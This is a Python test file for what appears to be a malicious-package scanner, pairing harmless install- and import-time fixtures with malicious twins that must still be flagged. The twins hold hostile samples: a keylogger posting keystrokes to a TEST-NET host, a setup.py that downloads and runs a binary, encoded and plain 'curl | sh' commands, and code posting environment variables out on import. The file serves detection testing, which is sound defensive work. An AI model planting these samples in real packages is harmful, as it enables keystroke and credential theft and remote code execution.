"""Round 12's install- and import-time classes (helper E), each a harmless fixture beside a
malicious twin.

Every harmless fixture (how a popular release does the thing) must stay below high; every twin
(the same shape doing harm) must still be high or critical with the threat named for it.
Addresses are TEST-NET or ``.invalid``; nothing here is ever run.
"""

from __future__ import annotations

import base64

from tests.core.capabilities.variant_scan import HIGH, assert_high_with, scan


def _threats(result):
    return [(t.id, t.severity, t.steps[:2]) for t in result.threats]


# ---------------------------------------------------------------- pynput's keyboard Controller
# cua_auto builds a pynput keyboard Controller on import to press keys for an agent: it sends
# input and reads none. Any call under pynput.keyboard was read as a key logger.
TYPIST = (
    "from pynput.keyboard import Controller, Key\n\n"
    "_kb = Controller()\n_SPECIAL = {'enter': Key.enter}\n\n\n"
    "def press(name):\n    _kb.press(_SPECIAL.get(name, name))\n"
)


def test_a_keyboard_controller_built_on_import_is_no_capture(tmp_path):
    result = scan({"pkg/__init__.py": "", "pkg/keyboard.py": TYPIST}, tmp_path)
    assert result.risk.level not in HIGH, _threats(result)


def test_a_keyboard_listener_started_on_import_is_still_caught(tmp_path):
    logger = (
        "import requests\nfrom pynput.keyboard import Listener\n\n\ndef on_press(key):\n"
        "    requests.post('http://198.51.100.7/k', data=str(key))\n\n\n"
        "Listener(on_press=on_press).start()\n"
    )
    result = scan({"pkg/__init__.py": "", "pkg/keyboard.py": logger}, tmp_path)
    assert_high_with("pynput listener", result, {"place.import_time", "chain.capture_exfiltration"})


# ---------------------------------------------------------------- gettext's msgfmt in setup.py
# bagit's setup.py compiles its .po translations with msgfmt for data_files: a build tool run
# on the package's own sources, like protoc or rst2man.
BAGIT_SETUP = (
    "import glob\nimport os\nimport subprocess\nfrom setuptools import setup\n\n\n"
    "def catalogs():\n    out = []\n"
    "    for po in glob.glob('locale/*/LC_MESSAGES/pkg.po'):\n"
    "        mo = po.replace('.po', '.mo')\n"
    "        try:\n            subprocess.check_call(['msgfmt', '-o', mo, po])\n"
    "        except (OSError, subprocess.CalledProcessError):\n            continue\n"
    "        out.append((os.path.dirname(mo), (mo,)))\n    return out\n\n\n"
    "setup(name='pkg', version='1.0', py_modules=['pkg'], data_files=catalogs())\n"
)


def test_setup_compiling_its_translations_with_msgfmt_is_a_build_step(tmp_path):
    result = scan({"setup.py": BAGIT_SETUP, "pkg.py": "X = 1\n"}, tmp_path)
    assert result.risk.level not in HIGH, _threats(result)


def test_setup_starting_a_program_it_fetched_is_still_caught(tmp_path):
    setup = BAGIT_SETUP.replace(
        "subprocess.check_call(['msgfmt', '-o', mo, po])",
        "subprocess.check_call(['curl', '-o', '/tmp/m', 'http://198.51.100.7/m'])\n"
        "            subprocess.check_call(['/tmp/m', mo])",
    )
    result = scan({"setup.py": setup, "pkg.py": "X = 1\n"}, tmp_path)
    assert_high_with("setup fetch and run", result, {"place.install_time"})


# ---------------------------------------------------------------- a long line naming an image
# PySimpleGUI binds its icons to names, one base64 PNG per line of 5,000 characters, and its
# debugger execs what the user types. The long-line signal counted such a line as an encoded
# blob beside the exec though the literal itself decodes to an image.
def _named_blob(payload: bytes) -> str:
    data = (payload * (4000 // len(payload) + 1))[:4000]
    return f"DEFAULT_ICON = b'{base64.b64encode(data).decode()}'\n"


DEBUGGER = (
    "\n\ndef run_user_code(text, scope):\n    exec(text, scope)\n"
    "\n\ndef icon():\n    return DEFAULT_ICON\n"
)


def test_a_long_line_that_names_a_base64_image_is_no_payload(tmp_path):
    png = b"\x89PNG\r\n\x1a\n" + bytes(range(256))
    result = scan({"pkg/__init__.py": _named_blob(png) + DEBUGGER}, tmp_path)
    assert "disguise.encoded_exec" not in {t.id for t in result.threats}, _threats(result)
    assert result.risk.level not in HIGH, _threats(result)


def test_a_long_line_that_names_base64_code_beside_exec_is_still_caught(tmp_path):
    code = b"import os\nos.system('curl http://198.51.100.7/x | sh')\n"
    result = scan({"pkg/__init__.py": _named_blob(code) + DEBUGGER}, tmp_path)
    assert_high_with("named code blob", result, {"disguise.encoded_exec"})


# ---------------------------------------------------------------- a branch no load call opens
# PySimpleGUI ends with theme(theme_global()): theme_global(new_theme=None) opens an error
# window only under `if new_theme is not None:`, and that window's event loop saves a
# screenshot on a hotkey. Read as load-time code, the screenshot became a capture on import.
GUI = (
    "from PIL import ImageGrab\n\n\nclass Window:\n    def __init__(self, text):\n"
    "        self.text = text\n\n    def read(self):\n        event = self.wait()\n"
    "        if event == 'snapshot':\n            self.save_screenshot()\n\n"
    "    def wait(self):\n        return input(self.text)\n\n"
    "    def save_screenshot(self):\n        ImageGrab.grab().save('window.png')\n\n\n"
    "def popup_error(text):\n    Window(text).read()\n\n\n"
    "def theme_global(new_theme=None):\n    if new_theme is not None:\n"
    "        if new_theme not in ('dark', 'light'):\n"
    "            popup_error('Cannot use custom themes')\n        return new_theme\n"
    "    return 'dark'\n\n\n"
)


def test_a_branch_only_an_unpassed_parameter_opens_does_not_run_on_load(tmp_path):
    result = scan({"pkg/__init__.py": GUI + "THEME = theme_global()\n"}, tmp_path)
    assert result.risk.level not in HIGH, _threats(result)


def test_the_same_branch_opened_by_a_load_time_argument_is_still_caught(tmp_path):
    result = scan({"pkg/__init__.py": GUI + "THEME = theme_global('custom')\n"}, tmp_path)
    assert_high_with("theme given on load", result, {"place.import_time"})


def test_a_guarded_act_in_a_function_run_on_load_without_its_parameter(tmp_path):
    # the act sits right in the branch: not import time without the parameter, import time with
    act = (
        "import os\nimport requests\n\n\ndef report(url=None):\n"
        "    if url is not None:\n"
        "        requests.post(url, data=dict(os.environ))\n    return True\n\n\n"
    )
    files = {"pkg/__init__.py": act + "OK = report()\n"}
    steps = [s for t in scan(files, tmp_path).threats for s in t.steps if t.id.startswith("place")]
    assert not steps, steps
    files = {"pkg/__init__.py": act + "OK = report('http://198.51.100.7/c')\n"}
    assert_high_with("report given on load", scan(files, tmp_path), {"place.import_time"})


# ---------------------------------------------------------------- a template module left to fill
# herbie creates ~/.config/herbie on first import: config.toml (a settings file), an empty
# __init__.py and custom_template.py, a module of comments and one string the user edits into
# a model template. A module that holds only comments and strings runs nothing.
HERBIE = (
    "from pathlib import Path\n\n_path = Path('~/.config/pkg').expanduser()\n"
    "_custom = _path / 'custom_template.py'\n\nTEMPLATE = '''\n# Private model template\n"
    "# Uncomment and edit the class below.\n\n\\'\\'\\'\nclass model1:\n"
    "    def template(self):\n        self.SOURCES = {'local': '/path/to/file.grib2'}\n"
    "\\'\\'\\'\n'''\n\n"
    "if not _custom.exists():\n    _path.mkdir(parents=True, exist_ok=True)\n"
    "    with open(_custom, 'w') as f:\n        f.write(TEMPLATE)\n"
)


def test_a_template_module_of_comments_written_on_import_is_shown_not_raised(tmp_path):
    result = scan({"pkg/__init__.py": HERBIE}, tmp_path)
    assert result.risk.level not in HIGH, _threats(result)


def test_a_module_with_code_written_to_home_on_import_is_still_caught(tmp_path):
    code = HERBIE.replace(
        "# Uncomment and edit the class below.\n",
        'import os\nos.system("curl http://198.51.100.7/x | sh")\n',
    )
    assert "os.system" in code
    assert_high_with(
        "code module to home", scan({"pkg/__init__.py": code}, tmp_path), {"place.import_time"}
    )
